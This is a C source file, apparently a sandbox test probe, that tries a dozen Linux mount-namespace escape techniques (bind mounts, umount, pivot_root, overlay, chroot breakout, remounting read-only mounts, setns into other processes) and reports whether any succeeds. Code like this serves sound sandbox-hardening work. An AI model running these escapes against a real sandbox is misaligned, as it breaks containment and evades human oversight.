/* SPDX-License-Identifier: MIT */
/*
 * attack_mounts VERB PATH... - look behind the sandbox's mounts, with all that an unprivileged user
 * namespace allows. Exits 0 when one way led there.
 *
 *   see DIR NAME     read DIR/NAME, where DIR is covered by a mount in the sandbox
 *   write FILE       write to FILE, which lies on a read-only mount in the sandbox
 *   proc PID         get a /proc that shows the process PID, which the sandbox's own does not
 *   setns DIR NAME   see DIR/NAME after joining the namespaces of every process that is in /proc
 */
#include "attack_common.h"

#include <dirent.h>
#include <limits.h>
#include <linux/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#include "proc_pid.h"

/* From linux/mount.h, which clashes with sys/mount.h in older C libraries. */
int mount(const char *source, const char *target, const char *type, unsigned long flags,
	  const void *data);
int umount2(const char *target, int flags);
#define DETACH 2 /* MNT_DETACH */

static const char *dir, *name, *file, *pid;

static bool readable(const char *root)
{
	char path[PATH_MAX], byte;
	bool good;
	int fd;

	(void)snprintf(path, sizeof(path), "%s%s/%s", root, dir, name);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	good = fd >= 0 && read(fd, &byte, 1) == 1;
	if (fd >= 0)
		(void)close(fd);
	return good;
}

static enum outcome look(const char *root, const char *how)
{
	return readable(root) ? succeeded(how) : blocked(how);
}

/* A place of our own for mounts: a tmpfs that nobody else sees. */
static void enter(int flags)
{
	if (become_namespace_root(CLONE_NEWNS | flags) < 0)
		err(BROKEN, "a user and mount namespace");
	if (mount("tmpfs", "/mnt", "tmpfs", 0, NULL) < 0 || mkdir("/mnt/new", 0755) < 0 ||
	    mkdir("/mnt/empty", 0755) < 0)
		err(BROKEN, "a tmpfs on /mnt");
}

static enum outcome plainly(void)
{
	return look("", "open");
}

static enum outcome by_umount(void)
{
	enter(0);
	while (umount2(dir, 0) == 0 || umount2(dir, DETACH) == 0)
		;
	if (readable(""))
		return succeeded("umount");
	(void)mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
	while (umount2(dir, 0) == 0 || umount2(dir, DETACH) == 0)
		;
	return look("", "umount of what is private");
}

/* The locks on mounts are lifted for who owns the namespace: one more of them, then. */
static enum outcome by_umount_deeper(void)
{
	enter(0);
	if (unshare(CLONE_NEWNS) == 0)
		while (umount2(dir, DETACH) == 0)
			;
	if (readable(""))
		return succeeded("umount in a second mount namespace");
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0)
		while (umount2(dir, DETACH) == 0)
			;
	return look("", "umount in a second user namespace");
}

static enum outcome by_bind(void)
{
	char parent[PATH_MAX];

	enter(0);
	if (mount("/", "/mnt/new", NULL, MS_BIND, NULL) == 0)
		return look("/mnt/new", "bind of / without what is mounted on it");
	(void)snprintf(parent, sizeof(parent), "%s", dir);
	*strrchr(parent, '/') = '\0';
	(void)snprintf(parent + strlen(parent), 2, "%s", parent[0] ? "" : "/");
	if (mount(parent, "/mnt/new", NULL, MS_BIND, NULL) == 0) {
		const char *last = strrchr(dir, '/');
		char path[PATH_MAX];

		(void)snprintf(path, sizeof(path), "/mnt/new%s/%s", last, name);
		if (access(path, R_OK) == 0)
			return succeeded("bind of the parent directory");
	}
	return blocked("bind");
}

static enum outcome by_recursive_bind(void)
{
	char path[PATH_MAX];

	enter(0);
	if (mount("/", "/mnt/new", NULL, MS_BIND | MS_REC, NULL) < 0)
		return blocked("recursive bind of /");
	(void)snprintf(path, sizeof(path), "/mnt/new%s", dir);
	while (umount2(path, DETACH) == 0)
		;
	return look("/mnt/new", "umount in a recursive bind of /");
}

static enum outcome by_open_tree(void)
{
	char path[PATH_MAX];
	int tree;

	enter(0);
	tree = (int)syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
	(void)snprintf(path, sizeof(path), "%s/%s", dir + 1, name);
	if (tree >= 0 && openat(tree, path, O_RDONLY) >= 0)
		return succeeded("open_tree without what is mounted on it");
	return blocked("open_tree");
}

static enum outcome by_move(void)
{
	int tree;

	enter(0);
	if (mount(dir, "/mnt/new", NULL, MS_MOVE, NULL) == 0 && readable(""))
		return succeeded("move the mount away");
	tree = (int)syscall(SYS_open_tree, AT_FDCWD, dir, OPEN_TREE_CLOEXEC);
	if (tree >= 0 &&
	    syscall(SYS_move_mount, tree, "", AT_FDCWD, "/mnt/new", MOVE_MOUNT_F_EMPTY_PATH) == 0)
		return look("", "move_mount");
	return look("", "move");
}

static enum outcome by_pivot_root(void)
{
	enter(0);
	if (mount("/", "/mnt/new", NULL, MS_BIND | MS_REC, NULL) < 0)
		return blocked("recursive bind of /");
	if (chdir("/mnt/new") < 0 || syscall(SYS_pivot_root, ".", ".") < 0)
		return blocked("pivot_root");
	while (umount2(dir, DETACH) == 0)
		;
	if (readable(""))
		return succeeded("umount after pivot_root");
	(void)umount2(".", DETACH);
	while (umount2(dir, DETACH) == 0)
		;
	return look("", "umount after pivot_root");
}

/* A lower layer is a private clone of one mount: without what is mounted on it (CVE-2021-3732). */
static enum outcome by_overlay(void)
{
	char options[PATH_MAX + 64];

	enter(0);
	if (mount("overlay", "/mnt/new", "overlay", 0, "lowerdir=/:/mnt/empty") == 0 &&
	    readable("/mnt/new"))
		return succeeded("overlay of /");
	(void)umount2("/mnt/new", DETACH);
	(void)snprintf(options, sizeof(options), "lowerdir=%s:/mnt/empty", dir);
	*strrchr(options, '/') = '\0';
	(void)snprintf(options + strlen(options), sizeof(options) - strlen(options),
		       "%s:/mnt/empty", strchr(options, '/') ? "" : "/");
	if (mount("overlay", "/mnt/new", "overlay", 0, options) == 0) {
		char path[PATH_MAX];

		(void)snprintf(path, sizeof(path), "/mnt/new%s/%s", strrchr(dir, '/'), name);
		if (access(path, R_OK) == 0)
			return succeeded("overlay of the parent directory");
	}
	return blocked("overlay");
}

/* The classic way out of a chroot, upwards from a directory that is held open. */
static enum outcome by_chroot(void)
{
	int fd;

	enter(0);
	fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0 || chroot("/mnt/empty") < 0 || fchdir(fd) < 0)
		return blocked("chroot");
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	return look(".", "up and out of a chroot");
}

static enum outcome by_roots(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	char root[64];

	while (proc && (entry = readdir(proc))) {
		if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
			continue;
		(void)snprintf(root, sizeof(root), "/proc/%.20s/root", entry->d_name);
		if (readable(root))
			return succeeded(root);
		(void)snprintf(root, sizeof(root), "/proc/%.20s/cwd", entry->d_name);
		if (readable(root))
			return succeeded(root);
	}
	return look("/proc/1/root", "the roots of other processes");
}

static const struct {
	const char *how;
	enum outcome (*run)(void);
} ways[] = {
	{"open", plainly},
	{"umount", by_umount},
	{"umount deeper", by_umount_deeper},
	{"bind", by_bind},
	{"recursive bind", by_recursive_bind},
	{"open_tree", by_open_tree},
	{"move", by_move},
	{"pivot_root", by_pivot_root},
	{"overlay", by_overlay},
	{"chroot", by_chroot},
	{"roots", by_roots},
};

static enum outcome see(void)
{
	enum outcome all = BLOCKED;

	for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
		enum outcome one = attempt(ways[i].run);

		if (one == BROKEN)
			errx(BROKEN, "%s did not run", ways[i].how);
		if (one == SUCCEEDED)
			all = SUCCEEDED;
	}
	return all;
}

static bool can_write(const char *path)
{
	return write_text(path, "written by the attacker\n");
}

static enum outcome write_anyway(void)
{
	struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
	char mount_point[PATH_MAX];

	if (can_write(file))
		return succeeded("write");
	enter(0);
	(void)snprintf(mount_point, sizeof(mount_point), "%s", file);
	*strrchr(mount_point, '/') = '\0';
	if (mount(NULL, mount_point, NULL, MS_REMOUNT | MS_BIND, NULL) == 0 && can_write(file))
		return succeeded("remount");
	if (syscall(SYS_mount_setattr, AT_FDCWD, mount_point, 0, &attr, sizeof(attr)) == 0 &&
	    can_write(file))
		return succeeded("mount_setattr");
	while (umount2(mount_point, DETACH) == 0)
		;
	if (can_write(file))
		return succeeded("umount");
	if (mount(mount_point, "/mnt/new", NULL, MS_BIND, NULL) == 0) {
		(void)mount(NULL, "/mnt/new", NULL, MS_REMOUNT | MS_BIND, NULL);
		(void)snprintf(mount_point, sizeof(mount_point), "/mnt/new%s", strrchr(file, '/'));
		if (can_write(mount_point))
			return succeeded("remount of a bind");
	}
	return blocked("write");
}

static enum outcome look_for_process(void)
{
	char path[PATH_MAX];
	struct stat st;

	(void)snprintf(path, sizeof(path), "/mnt/new/%s", pid);
	return stat(path, &st) == 0 ? succeeded(path) : blocked(path);
}

static enum outcome proc_without_pid_namespace(void)
{
	enter(0);
	if (mount("proc", "/mnt/new", "proc", 0, "hidepid=0") < 0)
		return blocked("mount proc");
	return look_for_process();
}

static enum outcome proc_with_pid_namespace(void)
{
	enter(CLONE_NEWPID);
	pid_t child = fork();
	int status;

	if (child < 0)
		err(BROKEN, "fork");
	if (child == 0) {
		if (mount("proc", "/mnt/new", "proc", 0, NULL) < 0)
			exit((int)blocked("mount proc in a pid namespace"));
		exit((int)look_for_process());
	}
	if (waitpid(child, &status, 0) < 0 || !WIFEXITED(status))
		return BROKEN;
	return (enum outcome)WEXITSTATUS(status);
}

static enum outcome proc_uncovered(void)
{
	char path[PATH_MAX];
	struct stat st;

	(void)snprintf(path, sizeof(path), "/proc/%s", pid);
	if (stat(path, &st) == 0)
		return succeeded(path);
	enter(0);
	while (umount2("/proc", DETACH) == 0)
		;
	return stat(path, &st) == 0 ? succeeded("umount /proc") : blocked("umount /proc");
}

static enum outcome see_process(void)
{
	enum outcome a = attempt(proc_uncovered), b = attempt(proc_without_pid_namespace),
		     c = attempt(proc_with_pid_namespace);

	if (a == BROKEN || b == BROKEN || c == BROKEN)
		return BROKEN;
	return a == SUCCEEDED || b == SUCCEEDED || c == SUCCEEDED ? SUCCEEDED : BLOCKED;
}

/* All namespaces of one process, one at a time and at once through a pidfd. */
static bool join_process(pid_t target)
{
	static const char *const kinds[] = {"user", "mnt", "pid", "ipc", "uts", "cgroup", "net"};
	int pidfd = (int)syscall(SYS_pidfd_open, target, 0);
	char path[PATH_MAX];
	bool any = false;

	if (pidfd >= 0) {
		any = setns(pidfd, CLONE_NEWNS | CLONE_NEWPID) == 0;
		(void)close(pidfd);
	}
	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
		int fd;

		(void)snprintf(path, sizeof(path), "/proc/%d/ns/%s", target, kinds[i]);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		any = setns(fd, 0) == 0 || any;
		(void)close(fd);
	}
	return any;
}

static enum outcome join_all(void)
{
	struct dirent **entries;
	int count, joined = 0;

	/* PID 1 may be hidden from the list. */
	joined += join_process(1);
	count = scandir("/proc", &entries, NULL, alphasort);
	for (int i = 0; i < count; i++) {
		pid_t target = proc_pid(entries[i]->d_name);

		if (target > 0)
			joined += join_process(target);
	}
	printf("joined namespaces of %d processes\n", joined);
	return look("", "after setns");
}

static enum outcome join_all_as_root(void)
{
	enter(0);
	return join_all();
}

static enum outcome join_namespaces(void)
{
	enum outcome a = attempt(join_all), b = attempt(join_all_as_root);

	if (a == BROKEN || b == BROKEN)
		return BROKEN;
	return a == SUCCEEDED || b == SUCCEEDED ? SUCCEEDED : BLOCKED;
}

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";

	dir = file = pid = argc > 2 ? argv[2] : "";
	name = argc > 3 ? argv[3] : "";
	if (!strcmp(verb, "see") && argc == 4 && *dir == '/')
		return (int)see();
	if (!strcmp(verb, "setns") && argc == 4 && *dir == '/')
		return (int)join_namespaces();
	if (!strcmp(verb, "write") && argc == 3 && *file == '/')
		return (int)write_anyway();
	if (!strcmp(verb, "proc") && argc == 3)
		return (int)see_process();
	errx(BROKEN, "usage: attack_mounts VERB PATH... (see the source)");
}
